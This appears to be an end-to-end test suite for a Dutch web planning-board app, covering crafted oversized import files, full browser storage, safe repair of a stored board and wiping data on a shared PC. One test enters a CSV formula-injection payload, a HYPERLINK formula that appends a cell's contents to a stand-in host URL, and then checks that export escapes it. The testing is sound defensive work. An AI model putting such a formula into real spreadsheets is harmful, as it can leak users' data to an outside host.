// End-to-end: a mailed file may be crafted, storage may be full, a PC may be
// shared. Bounded board files, a stored oversized board, CSV cells that
// would be formulas, replace without room, and wiping this browser.
import { describe, test } from "node:test";
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";

import { axe, boardKey, card, INDEX_KEY, open, openId, rawStored, readCsv, secondTab, setup, stored } from "./helpers.mjs";

setup();

/** The open board as a board file, from "Exporteren". */
async function exported(page) {
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("button", { name: "Exporteren" }).first().click(),
  ]);
  return { name: download.suggestedFilename(), file: JSON.parse(await readFile(await download.path(), "utf8")) };
}

async function pick(page, name, text) {
  await page.locator('input[type="file"]').setInputFiles({ name, mimeType: "application/json", buffer: Buffer.from(text) });
}

/** Fills localStorage with other data until it takes no more. */
async function fillStorage(page) {
  await page.evaluate(() => {
    for (let size = 256 * 1024, n = 0; size >= 1; size = Math.floor(size / 2)) {
      for (;;) {
        try {
          localStorage.setItem(`vulling-${n}`, "x".repeat(size));
          n += 1;
        } catch {
          break;
        }
      }
    }
  });
}

describe("bounds", () => {
  test("crafted files (20,000 columns, a million labels) are refused within 2 s, the board untouched", async (t) => {
    const page = await open(t);
    const { file } = await exported(page);
    const before = await rawStored(page);
    const index = await page.evaluate((k) => localStorage.getItem(k), INDEX_KEY);

    const columns = structuredClone(file);
    columns.board.id = "9b2f0a8e-1c3d-4e5f-8a9b-0c1d2e3f4a5b";
    const proto = columns.board.columns[0];
    for (let n = 0; n < 20_000; n += 1) {
      columns.board.columns.push({ ...proto, id: `00000000-0000-4000-8000-${String(n).padStart(12, "0")}`, name: `K${n}` });
    }
    const labels = structuredClone(file);
    labels.board.items[0].tags = new Array(1_000_000).fill("");

    for (const [name, text, says] of [
      ["kolommen.planbord.json", JSON.stringify(columns), "20.004 kolommen"],
      ["labels.planbord.json", JSON.stringify(labels), "1.000.000 labels"],
    ]) {
      const started = Date.now();
      await pick(page, name, text);
      const dialog = page.getByRole("dialog", { name: "Importeren lukt niet" });
      await dialog.waitFor();
      const took = Date.now() - started;
      const message = await dialog.textContent();
      assert.ok(message.includes(says), message);
      assert.ok(message.includes("Er is niets veranderd"), message);
      assert.ok(took < 2000, `${name}: refused after ${took} ms (${(text.length / 1e6).toFixed(1)} MB)`);
      t.diagnostic(`${name} (${(text.length / 1e6).toFixed(1)} MB) refused in ${took} ms`);
      await dialog.getByRole("button", { name: "Sluiten" }).click();
      await dialog.waitFor({ state: "hidden" });
    }
    assert.equal(await rawStored(page), before, "the board is untouched");
    assert.equal(await page.evaluate((k) => localStorage.getItem(k), INDEX_KEY), index, "no board was added");
    assert.equal(await page.locator(".card").count(), 11);
  });

  test("a stored board over a bound opens read-only, exports whole, and repairs without losing a card", async (t) => {
    const page = await open(t, { width: 1366, height: 768 });
    const id = await openId(page);
    // A board stored before the bounds existed (or crafted): 20,000 columns.
    await page.evaluate((key) => {
      const envelope = JSON.parse(localStorage.getItem(key));
      const proto = envelope.board.columns[0];
      for (let n = 0; n < 20_000; n += 1) {
        envelope.board.columns.push({ ...proto, id: `00000000-0000-4000-8000-${String(n).padStart(12, "0")}`, name: `K${n}`, rank: 10 + n });
      }
      localStorage.setItem(key, JSON.stringify(envelope));
    }, boardKey(id));
    const started = Date.now();
    await page.reload();
    const safe = page.getByRole("alert").filter({ hasText: "Dit bord is te groot om veilig te tonen" });
    await safe.waitFor();
    t.diagnostic(`safe view shown ${Date.now() - started} ms after reload`);
    assert.ok((await safe.textContent()).includes("20.004 kolommen"));
    assert.equal(await page.locator(".card").count(), 0, "the board is not drawn");
    // At this width Bordinstellingen would be under "Meer": it is not there either.
    await page.getByRole("button", { name: "Meer" }).click();
    assert.ok(await page.getByRole("button", { name: "Nieuw bord" }).isVisible(), "Meer is open");
    assert.equal(await page.getByRole("button", { name: "Bordinstellingen" }).count(), 0, "no editing");
    await page.getByRole("button", { name: "Meer" }).click();
    assert.deepEqual(await axe(page), []);
    await page.screenshot({ path: "tests/e2e/output/safe-mode-1366x768.png" });

    // Export first: everything as it is.
    const { file } = await exported(page);
    assert.equal(file.board.columns.length, 20_004);
    assert.equal(file.board.items.length, 11);

    // Then repair: every card kept, the board drawn again.
    await safe.getByRole("button", { name: "Herstellen" }).click();
    await page.locator(".card").first().waitFor();
    assert.equal(await page.locator(".card").count(), 11);
    assert.ok(await card(page, "Open dag").isVisible());
    await page.waitForSelector(".app[data-opgeslagen='ja']");
    const board = (await stored(page)).board;
    assert.equal(board.items.length, 11);
    assert.equal(board.columns.filter((c) => !c.removed).length, 30);
    // Reload: a normal board now.
    await page.reload();
    await page.locator(".card").first().waitFor();
    assert.equal(await safe.count(), 0);
  });

  test("CSV cells that would be formulas read back as text", async (t) => {
    const page = await open(t);
    await card(page, "Open dag").locator(".card-open").click();
    await page.getByLabel("Titel").fill('=HYPERLINK("http://example.invalid/?"&A2,"Klik hier")');
    await page.getByLabel("Trekker", { exact: true }).fill("+31 20 123 4567");
    await page.keyboard.press("Escape");
    await page.getByRole("link", { name: "Overzicht" }).click();
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Excel (.csv)" }).click(),
    ]);
    const rows = readCsv(await download.path());
    const row = rows.find((r) => r[2].includes("HYPERLINK"));
    assert.equal(row[2], `'=HYPERLINK("http://example.invalid/?"&A2,"Klik hier")`);
    assert.equal(row[4], "'+31 20 123 4567");
    for (const r of rows) {
      for (const cell of r) {
        assert.ok(!/^[=+\-@\t\r]/.test(cell), `cell starts a formula: ${cell}`);
      }
    }
  });

  test("replace with too little room leaves the old board in place and says so", async (t) => {
    const page = await open(t);
    const { file } = await exported(page);
    // Another board (not in this browser), sent by someone else.
    file.board.id = "5c6d7e8f-9a0b-4c1d-8e2f-3a4b5c6d7e8f";
    file.board.title = "Teamplan Boven-IJ";
    const before = await rawStored(page);
    const index = await page.evaluate((k) => localStorage.getItem(k), INDEX_KEY);
    await fillStorage(page);
    await pick(page, "boven-ij.planbord.json", JSON.stringify(file));
    const preview = page.getByRole("dialog", { name: "Bord importeren" });
    await preview.getByRole("button", { name: "Vervangen…" }).click();
    await preview.getByRole("button", { name: "Ja, vervangen" }).click();
    const failed = page.getByRole("dialog", { name: "Importeren lukt niet" });
    await failed.waitFor();
    const message = await failed.textContent();
    assert.ok(message.includes("kon niet worden opgeslagen: de opslag van deze browser is vol"), message);
    assert.ok(message.includes("Er is niets veranderd"), message);
    await failed.getByRole("button", { name: "Sluiten" }).click();
    assert.ok((await page.locator("h1").textContent()).includes("Nieuw West Zuid"), "the open board stays");
    assert.equal(await page.locator(".card").count(), 11);
    await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith("vulling")).forEach((k) => localStorage.removeItem(k)));
    assert.equal(await rawStored(page), before, "the stored board is untouched");
    assert.equal(await page.evaluate((k) => localStorage.getItem(k), INDEX_KEY), index, "not trashed, nothing added");
    assert.equal(await page.evaluate((k) => localStorage.getItem(k), boardKey(file.board.id)), null);
  });
});

describe("a shared PC", () => {
  test("Wis alle gegevens removes every board of this browser after saying how many, and nothing else; another tab does not write them back", async (t) => {
    const page = await open(t);
    const other = await secondTab(page);
    await page.evaluate(() => {
      localStorage.setItem("andere-app", "blijft");
      localStorage.setItem("planbord.instelling.sneltoetsen", "uit");
    });
    // A third board, and a change in the other tab not yet saved long.
    await page.getByRole("button", { name: "Nieuw bord" }).click();
    await page.getByLabel("Team", { exact: true }).fill("Boven-IJ");
    await page.getByRole("button", { name: "Bord maken" }).click();
    await page.waitForFunction(() => !location.hash.includes("undefined") && document.querySelector("h1")?.textContent.includes("Boven-IJ"));
    const before = JSON.parse(await page.evaluate((k) => localStorage.getItem(k), INDEX_KEY)).library.boards.map((b) => b.id);
    assert.equal(before.length, 3);
    await page.getByRole("button", { name: "Bordinstellingen" }).click();
    await page.getByRole("button", { name: "Wis alle gegevens…" }).click();
    const ask = page.getByRole("dialog", { name: "Alle gegevens van Planbord wissen?" });
    await ask.waitFor();
    assert.ok((await ask.textContent()).includes("3 borden"));
    assert.deepEqual(await axe(page), []);
    // Export is offered first.
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      ask.getByRole("button", { name: "Open bord exporteren" }).click(),
    ]);
    assert.ok(download.suggestedFilename().endsWith(".planbord.json"));
    await Promise.all([
      page.waitForEvent("load"),
      other.waitForEvent("load"),
      ask.getByRole("button", { name: "Alles wissen" }).click(),
    ]);
    await page.locator(".card").first().waitFor();
    await other.locator(".card").first().waitFor();
    await page.waitForTimeout(500);
    const keys = await page.evaluate(() => Object.keys(localStorage).sort());
    assert.ok(keys.includes("andere-app"), "another app's key stays");
    assert.ok(!keys.includes("planbord.instelling.sneltoetsen"), "settings go");
    for (const id of before) {
      assert.ok(!keys.includes(boardKey(id)), `board ${id} is gone, not written back by the other tab`);
    }
    // A first visit again: only fresh sample boards.
    const after = JSON.parse(await page.evaluate((k) => localStorage.getItem(k), INDEX_KEY)).library.boards;
    assert.ok(after.every((b) => !before.includes(b.id)), "new boards only");
    assert.ok(!after.some((b) => b.title.includes("Boven-IJ")));
  });
});
